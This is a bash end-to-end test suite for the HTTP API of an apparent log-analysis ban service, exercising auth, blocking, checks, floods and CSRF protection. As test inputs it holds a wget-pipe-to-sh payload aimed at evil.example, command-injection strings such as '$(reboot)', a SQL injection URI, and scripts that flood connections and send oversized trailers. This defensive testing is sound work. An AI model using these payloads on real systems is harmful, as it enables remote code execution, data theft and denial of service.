#!/usr/bin/env bash
# The HTTP API of serve mode, spoken to with curl: every endpoint, its
# errors, the token, the state database shared with cron runs and
# restarts, and 10 000 malformed, oversized or slow requests after which
# /api/check still answers right.
source "$(dirname "$0")/lib/common.sh"

port=$(free_port)
url="http://127.0.0.1:$port"
code() { curl -s -o /dev/null -w '%{http_code}' "$@"; }
line() {  # line CLIENT PATH [STATUS]: a combined log line of now
  echo "$1 - - [$(date -u '+%d/%b/%Y:%H:%M:%S') +0000] \"GET $2 HTTP/1.1\" ${3:-404} 0 \"-\" \"Mozilla/5.0\""
}

# Beyond loopback a token is required; a short token is refused.
"$DEFENDER_SCAN" serve --listen 0.0.0.0:$port < /dev/null 2> "$TMP/err" && st=0 || st=$?
expect_eq "non-loopback without a token: exit" "$st" 2
expect_contains "non-loopback without a token: message" "$(cat "$TMP/err")" "needs --api-token-file"
echo short > "$TMP/short"
"$DEFENDER_SCAN" serve --listen 127.0.0.1:$port --api-token-file "$TMP/short" < /dev/null 2> "$TMP/err" && st=0 || st=$?
expect_eq "short token: exit" "$st" 2

token=0123456789abcdef0123
echo "$token" > "$TMP/token"
mkfifo "$TMP/fifo"
exec 3<> "$TMP/fifo"  # the input, written to below
start_serve "$port" --api-token-file "$TMP/token" --state "$TMP/state.db" --format combined --allow 192.0.2.0/24 \
  --json "$TMP/decisions.jsonl" < "$TMP/fifo"
auth=(-H "Authorization: Bearer $token" -H 'Content-Type: application/json')

# Authorization: needed everywhere but /api/check, /metrics, /healthz.
expect_eq "block without token" "$(code -X POST "$url/api/block" -d '{"ip":"203.0.113.1"}')" 401
expect_eq "block with a wrong token" "$(code -X POST "$url/api/block" -H 'Authorization: Bearer nope' -d '{"ip":"203.0.113.1"}')" 401
expect_eq "blocked-ips without token" "$(code "$url/api/blocked-ips")" 401
expect_eq "check without token" "$(code "$url/api/check" -H 'X-Real-IP: 203.0.113.1')" 200
expect_eq "healthz without token" "$(code "$url/healthz")" 200
expect_eq "metrics without token" "$(code "$url/metrics")" 200

# /api/block: the duration forms, the errors, the allowlist.
out=$(curl -s "${auth[@]}" -X POST "$url/api/block" -d '{"ip":"203.0.113.1","duration":"3600s","reason":"manual"}')
expect_contains "block answer" "$out" '"ip":"203.0.113.1","blocked":true,"reason":"manual","duration_s":3600'
out=$(curl -s "${auth[@]}" -X POST "$url/api/block" -d '{"ip":"203.0.113.2","duration":7200}')
expect_contains "duration in seconds, default reason" "$out" '"reason":"api","duration_s":7200'
out=$(curl -s "${auth[@]}" -X POST "$url/api/block" -d '{"ip":"198.51.100.0/24","duration":"2h"}')
expect_contains "a CIDR" "$out" '"ip":"198.51.100.0/24","blocked":true'
for body in '{' '[]' '{"ip":7}' '{"ip":"1.2.3.4;} include /etc/passwd;"}' '{"ip":"localhost"}' '{"ip":"0.0.0.0/0"}' \
            '{"ip":"01.2.3.4"}' '{"ip":"1.2.3.4","duration":"soon"}' '{"ip":"1.2.3.4","duration":-5}' \
            '{"ip":"1.2.3.4","reason":"$(reboot)"}' '{"ip":"127.0.0.1"}'; do
  expect_eq "block $body" "$(code "${auth[@]}" -X POST "$url/api/block" -d "$body")" 400
done
expect_contains "a clear message" "$(curl -s "${auth[@]}" -X POST "$url/api/block" -d '{"ip":"1.2.3.999"}')" \
  "'1.2.3.999' is not an address or CIDR"
expect_eq "allowlisted: conflict" "$(code "${auth[@]}" -X POST "$url/api/block" -d '{"ip":"192.0.2.5"}')" 409
expect_eq "wrong method" "$(code "${auth[@]}" "$url/api/block")" 405
expect_eq "unknown endpoint" "$(code "$url/api/nothing")" 404

# /api/check: status, score header, JSON on request, the client's own address otherwise.
expect_eq "check a blocked client" "$(code "$url/api/check" -H 'X-Real-IP: 203.0.113.1')" 403
expect_eq "check a client in a blocked CIDR" "$(code "$url/api/check?ip=198.51.100.77")" 403
out=$(curl -s -D "$TMP/h" "$url/api/check" -H 'X-Real-IP: 203.0.113.1' -H 'Accept: application/json')
expect_contains "check JSON" "$out" '{"ip":"203.0.113.1","blocked":true,"score":100,"reason":"manual","until":"'
expect_contains "check header" "$(cat "$TMP/h")" "X-Threat-Score: 100"
out=$(curl -s -X POST "$url/api/check" -d '{"ip":"203.0.113.50"}')
expect_eq "check by POST" "$out" '{"ip":"203.0.113.50","blocked":false,"score":0,"reason":null,"until":null}'
expect_eq "check a bad X-Real-IP" "$(code "$url/api/check" -H 'X-Real-IP: 203.0.113.256')" 400
out=$(curl -s "$url/api/check" -H 'X-Real-IP: 203.0.113.60' -H 'Accept: application/json' \
  -H 'X-Original-URI: /cgi-bin/x?cmd=;wget%20http://evil.example/x.sh%20-O-|sh' -H 'X-Original-Method: GET')
expect_contains "check refuses the request's own attack" "$out" '"blocked":true,"score":0,"reason":"http-rce-probing"'
out=$(curl -s "$url/api/check" -H 'X-Real-IP: 203.0.113.61' -H 'Accept: application/json' \
  -H "X-Original-URI: /item?id=1%27%20union%20select%20password%20from%20users--" -H 'X-Original-Method: GET')
expect_contains "check refuses a plain union select after a quote" "$out" '"blocked":true,"score":0,"reason":"http-sqli-probing"'
expect_eq "a weak SQL fragment alone is no refusal" \
  "$(code "$url/api/check" -H 'X-Real-IP: 203.0.113.62' -H 'X-Original-URI: /x?q=md5(1)')" 200
expect_eq "an allowlisted client is never refused" \
  "$(code "$url/api/check" -H 'X-Real-IP: 192.0.2.9' -H 'X-Original-URI: /.env')" 200

out=$(curl -s "${auth[@]}" "$url/api/blocked-ips")
expect_eq "blocked-ips" "$out" '["198.51.100.0/24","203.0.113.1","203.0.113.2"]'

# /api/analyze: one line through the pipeline; the third sensitive file overflows... the fifth bans.
for f in /.env /.git/config /backup.sql /id_rsa; do
  out=$(curl -s "${auth[@]}" -X POST "$url/api/analyze" -d "{\"log_entry\":\"$(line 203.0.113.80 "$f" | sed 's/"/\\"/g')\"}")
done
expect_contains "analyze: signatures and scenarios" "$out" '"signatures":["sensitive-credentials"],"scenarios":["http-probing","http-sensitive-files"'
out=$(curl -s "${auth[@]}" -X POST "$url/api/analyze" -d "{\"log_entry\":\"$(line 203.0.113.99 /.htpasswd | sed 's/"/\\"/g')\",\"ip\":\"203.0.113.80\"}")
expect_contains "analyze: the fifth bans (ip given)" "$out" '"ip":"203.0.113.80","score":60,"blocked":true'
expect_contains "analyze: the decision, as the JSON output writes it" "$out" '"event":{"kind":"alert","action":"ban"},"rule":{"name":"http-sensitive-files"},"source":{"ip":"203.0.113.80"}'
expect_contains "analyze: the ban" "$out" '"decision":{"scope":"ip","value":"203.0.113.80","duration_s":14400'
expect_eq "analyzed ban in force" "$(code "$url/api/check" -H 'X-Real-IP: 203.0.113.80')" 403
out=$(curl -s "${auth[@]}" -X POST "$url/api/analyze" -d '{"log_entry":"not a log line"}')
expect_contains "analyze: a line that does not parse" "$out" '"error":"the log entry was not analyzed: format_mismatch"'

# Lines from the input (stdin here) feed the same bans.
for f in /.env /.git/config /backup.sql /id_rsa /.htpasswd; do line 203.0.113.90 "$f" >&3; done
wait_until 5 bash -c "[[ \$(curl -s -o /dev/null -w '%{http_code}' -H 'X-Real-IP: 203.0.113.90' $url/api/check) == 403 ]]" \
  && ok || fail "a ban from the input is not seen by /api/check"

# Unblock: DELETE with an escaped IPv6 /64, POST, and a target not banned.
curl -s "${auth[@]}" -X POST "$url/api/block" -d '{"ip":"2001:db8::1"}' > /dev/null
expect_eq "IPv6 blocked per /64" "$(code "$url/api/check" -H 'X-Real-IP: 2001:db8::ffff')" 403
expect_eq "DELETE an escaped IPv6" "$(code "${auth[@]}" -X DELETE "$url/api/block/2001%3Adb8%3A%3A1")" 200
expect_eq "IPv6 served again" "$(code "$url/api/check" -H 'X-Real-IP: 2001:db8::ffff')" 200
expect_eq "POST unblock" "$(code "${auth[@]}" -X POST "$url/api/unblock" -d '{"ip":"203.0.113.2"}')" 200
expect_eq "unblock what is not banned" "$(code "${auth[@]}" -X POST "$url/api/unblock" -d '{"ip":"203.0.113.2"}')" 404

# /metrics: Prometheus text with the pipeline's and the API's counters.
m=$(curl -s "$url/metrics")
expect_contains "metrics: lines" "$m" "defender_lines_total 11"
expect_contains "metrics: rejects by reason" "$m" 'defender_lines_rejected_total{reason="format_mismatch"} 1'
expect_contains "metrics: bans by scenario" "$m" 'defender_bans_total{scenario="http-sensitive-files"} 2'
expect_contains "metrics: alerts by scenario" "$m" 'defender_alerts_total{scenario="http-sensitive-files"} 2'
expect_contains "metrics: active bans" "$m" "defender_active_bans 4"
expect_contains "metrics: check latency" "$m" 'defender_check_duration_seconds_bucket{le="+Inf"}'
expect_not_contains "metrics: no per-client labels" "$m" "203.0.113"

# The state is shared: after a restart the bans are there, and `bans list` shows them.
exec 3>&-
kill "$serve"; wait "$serve" 2>/dev/null || true
expect_contains "bans list after serve" "$("$DEFENDER_SCAN" bans list --state "$TMP/state.db")" "203.0.113.1"
start_serve "$port" --state "$TMP/state.db" --format combined < /dev/null
expect_eq "a ban survives a restart" "$(code "$url/api/check" -H 'X-Real-IP: 203.0.113.1')" 403
expect_eq "an unban survives a restart" "$(code "$url/api/check" -H 'X-Real-IP: 203.0.113.2')" 200

# While serve runs, the state is shared: `bans` sees and changes its bans.
expect_contains "bans list while serve runs" "$("$DEFENDER_SCAN" bans list --state "$TMP/state.db" 2>&1)" "203.0.113.1"
"$DEFENDER_SCAN" bans add 203.0.113.222 --state "$TMP/state.db" --reason cron > /dev/null
wait_until 8 bash -c "[[ \$(curl -s -o /dev/null -w '%{http_code}' '$url/api/check?ip=203.0.113.222') == 403 ]]" \
  && ok || fail "a ban added with 'bans add' is not in force in serve"
"$DEFENDER_SCAN" bans del 203.0.113.1 --state "$TMP/state.db" > /dev/null
wait_until 8 bash -c "[[ \$(curl -s -o /dev/null -w '%{http_code}' '$url/api/check?ip=203.0.113.1') == 200 ]]" \
  && ok || fail "a ban removed with 'bans del' is still in force in serve"
"$DEFENDER_SCAN" bans add 203.0.113.1 --state "$TMP/state.db" --reason manual > /dev/null  # for what follows
wait_until 8 bash -c "[[ \$(curl -s -o /dev/null -w '%{http_code}' '$url/api/check?ip=203.0.113.1') == 403 ]]" || true

# 10 000 malformed, oversized or slow requests, with /api/check asked all along.
kill "$serve"; wait "$serve" 2>/dev/null || true
start_serve "$port" --state "$TMP/state.db" --request-timeout 2 < /dev/null
[[ -n "${SKIP_ABUSE:-}" ]] || python3 "$SOURCE_DIR/tests/e2e/lib/abuse.py" "$port" 203.0.113.1 203.0.113.50 10000 && ok || fail "abuse: wrong answers"
expect_eq "check answers after the abuse" "$(code "$url/api/check" -H 'X-Real-IP: 203.0.113.1')" 403
expect_eq "healthz after the abuse" "$(curl -s "$url/healthz")" '{"status":"ok"}'
m=$(curl -s "$url/metrics")
bad=$(sed -n 's/^defender_http_bad_requests_total //p' <<<"$m")
(( bad >= 4000 )) && ok || fail "bad requests counted: $bad"
expect_contains "no ban from the abuse" "$(curl -s "$url/api/blocked-ips")" '"198.51.100.0/24","203.0.113.1","203.0.113.80","203.0.113.90","203.0.113.222"]'

# A chunked request with a 64 KiB trailer field (Boost 1.74 throws on it)
# or a 1 MB trailer does not crash serve or grow it: 431 and the
# connection closed; the fuzzer (api_fuzz) drives trailers too.
python3 - "$port" <<'PY' > "$TMP/trailer.out"
import socket, sys
port = int(sys.argv[1])
def send(trailer):
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    body = b'{"ip":"203.0.113.44"}'
    req = (b"POST /api/analyze HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
           b"Transfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\n%s\r\n\r\n" % (len(body), body, trailer))
    try:
        s.sendall(req)
    except OSError:
        pass
    answer = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            answer += chunk
    except OSError:
        pass
    s.close()
    return answer.split(b" ", 2)[1].decode() if answer.startswith(b"HTTP/1.1 ") else "none"
print(send(b"X-T: " + b"a" * 65536), send(b"X-T: " + b"a" * 1000000), *[send(b"X-%d: b" % i) for i in range(1)])
PY
expect_eq "trailers: 431 for the 64 KiB and 1 MB fields, a small one passes to the endpoint" \
  "$(cat "$TMP/trailer.out")" "431 431 400"
expect_eq "serve still answers after the trailers" "$(curl -s "$url/healthz")" '{"status":"ok"}'
rss=$(awk '/VmRSS/ {print $2}' "/proc/$serve/status")
# (Under AddressSanitizer, whose quarantine keeps freed memory, RSS says nothing.)
[[ "${SANITIZED:-0}" == 1 ]] || { (( rss < 150000 )) && ok || fail "serve's RSS after the trailers: ${rss} kB"; }

# 4 200 idle connections from one address (127.0.0.2) and 2 000 more from
# 500 others must not lock out nginx (127.0.0.1): /api/check answers
# within a second all along, and connections that send nothing are closed.
python3 - "$port" <<'PY' > "$TMP/idle.out"
import resource, socket, sys, time
port = int(sys.argv[1])
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
held = []
def idle(source, n):
    for _ in range(n):
        s = socket.socket()
        s.setblocking(False)
        s.bind((source, 0))
        try:
            s.connect(("127.0.0.1", port))
        except BlockingIOError:
            pass
        held.append(s)
idle("127.0.0.2", 4200)
for i in range(500):
    idle("127.0.%d.%d" % (3 + i // 250, 1 + i % 250), 4)
time.sleep(1)
worst = 0.0
answers = []
for _ in range(20):
    t0 = time.time()
    try:
        c = socket.create_connection(("127.0.0.1", port), timeout=5)
        c.sendall(b"GET /api/check HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Real-IP: 203.0.113.1\r\nConnection: close\r\n\r\n")
        a = c.recv(100)
        c.close()
        answers.append(a.split(b" ")[1].decode() if a.startswith(b"HTTP/1.1 ") else "none")
    except OSError as e:
        answers.append("error")
    worst = max(worst, time.time() - t0)
    time.sleep(0.1)
print(" ".join(sorted(set(answers))), "worst %.2f" % worst)
PY
read -r answers worst_word worst < "$TMP/idle.out"
expect_eq "idle floods: /api/check still answers" "$answers" "403"
(( $(echo "$worst < 1.0" | bc) )) && ok || fail "idle floods: the slowest check took ${worst}s"

# A reload command that hangs runs beside the pipeline, not in it:
# /api/block is answered at once, and the hanging reload is killed at
# --action-timeout (and the previous include put back).
kill "$serve"; wait "$serve" 2>/dev/null || true
start_serve "$port" --nginx-conf "$TMP/hang.conf" --reload-cmd 'sleep 3019' --reload-interval 0 \
  --action-timeout 3 < /dev/null 2> "$TMP/hang-reload.err"
worst=0
for ip in 203.0.113.91 203.0.113.92 203.0.113.93; do
  t0=$(date +%s%N)
  curl -s -o /dev/null -X POST "$url/api/block" -H 'Content-Type: application/json' -d "{\"ip\":\"$ip\"}"
  t=$(( ($(date +%s%N) - t0) / 1000000 ))
  (( t > worst )) && worst=$t
done
(( worst < 1000 )) && ok || fail "a hanging reload held /api/block for ${worst} ms"
wait_until 10 grep -q "reload failed" "$TMP/hang-reload.err" && ok || fail "the hanging reload was not reported"
kill "$serve"; wait "$serve" 2>/dev/null || true
expect_eq "no hanging reload outlives serve" "$(pgrep -fc '^sleep 3019$' || true)" 0
pkill -f '^sleep 3019$' || true

# Rows of the state are input like any other: everything, loopback, a
# prefix too wide or a reason that is not a plain name are refused (and
# said), never enforced by /api/check.
far=4102444800000  # 2100
sqlite3 "$TMP/state.db" "INSERT INTO bans (target, source, reason, since, until, count, score) VALUES
  ('0.0.0.0/0', '203.0.113.9', 'x', 0, $far, 1, 100), ('127.0.0.1', '127.0.0.1', 'x', 0, $far, 1, 100),
  ('::/0', '2001:db8::1', 'x', 0, $far, 1, 100), ('10.0.0.0/8', '10.0.0.1', 'x', 0, $far, 1, 100),
  ('203.0.113.77', '203.0.113.77', '\$(reboot)', 0, $far, 1, 100)"
start_serve "$port" --state "$TMP/state.db" < /dev/null 2> "$TMP/hostile.err"
expect_eq "a 0.0.0.0/0 row refuses nobody" "$(code "$url/api/check" -H 'X-Real-IP: 198.18.0.99')" 200
expect_eq "nor does ::/0" "$(code "$url/api/check" -H 'X-Real-IP: 2001:db8::99')" 200
expect_eq "a /8 row refuses nobody" "$(code "$url/api/check" -H 'X-Real-IP: 10.1.2.3')" 200
expect_eq "a row with a hostile reason is refused" "$(code "$url/api/check" -H 'X-Real-IP: 203.0.113.77')" 200
expect_eq "the good rows still count" "$(code "$url/api/check" -H 'X-Real-IP: 203.0.113.1')" 403
expect_contains "the refused rows are said" "$(cat "$TMP/hostile.err")" "5 ban rows refused"

# CSRF and DNS rebinding: without a token on loopback, a web page can still
# send simple requests (no preflight) and a rebound name reaches loopback:
# state changes need application/json, a foreign Origin or Host is refused.
kill "$serve"; wait "$serve" 2>/dev/null || true
start_serve "$port" --state "$TMP/csrf.db" --api-host defender.internal < /dev/null
json=(-H 'Content-Type: application/json')
expect_eq "a text/plain POST is refused" \
  "$(code -X POST "$url/api/block" -H 'Content-Type: text/plain' -d '{"ip":"203.0.113.99"}')" 415
expect_eq "a form POST is refused" "$(code -X POST "$url/api/block" -d 'ip=203.0.113.99')" 415
expect_eq "a form POST to unblock is refused" "$(code -X POST "$url/api/unblock" -d 'ip=203.0.113.99')" 415
expect_eq "a text/plain analyze is refused" \
  "$(code -X POST "$url/api/analyze" -H 'Content-Type: text/plain' -d '{"log_entry":"x"}')" 415
expect_eq "a foreign Origin is refused" \
  "$(code -X POST "$url/api/block" "${json[@]}" -H 'Origin: http://evil.example' -d '{"ip":"203.0.113.99"}')" 403
expect_eq "an Origin 'null' is refused" \
  "$(code -X POST "$url/api/block" "${json[@]}" -H 'Origin: null' -d '{"ip":"203.0.113.99"}')" 403
expect_eq "a rebound Host cannot read the bans" "$(code "$url/api/blocked-ips" -H "Host: evil.example:$port")" 403
expect_eq "a rebound Host cannot block" \
  "$(code -X POST "$url/api/block" "${json[@]}" -H "Host: evil.example:$port" -d '{"ip":"203.0.113.99"}')" 403
expect_eq "a rebound Host cannot unblock" "$(code -X DELETE "$url/api/block/203.0.113.1" -H 'Host: evil.example')" 403
expect_eq "nothing was blocked" "$(curl -s "$url/api/blocked-ips")" '[]'
expect_eq "an --api-host name is accepted" "$(code "$url/api/blocked-ips" -H "Host: defender.internal:$port")" 200
expect_eq "localhost is accepted" "$(code "$url/api/blocked-ips" -H "Host: localhost:$port")" 200
expect_eq "a same-origin page is accepted" \
  "$(code -X POST "$url/api/block" "${json[@]}" -H "Origin: http://127.0.0.1:$port" -d '{"ip":"203.0.113.98"}')" 200
expect_eq "a JSON POST from a script works" \
  "$(code -X POST "$url/api/block" -H 'Content-Type: application/json; charset=utf-8' -d '{"ip":"203.0.113.99"}')" 200
expect_eq "/api/check answers whatever the Host (nginx's upstream name)" \
  "$(code "$url/api/check" -H 'Host: defender' -H 'X-Real-IP: 203.0.113.99')" 403
finish
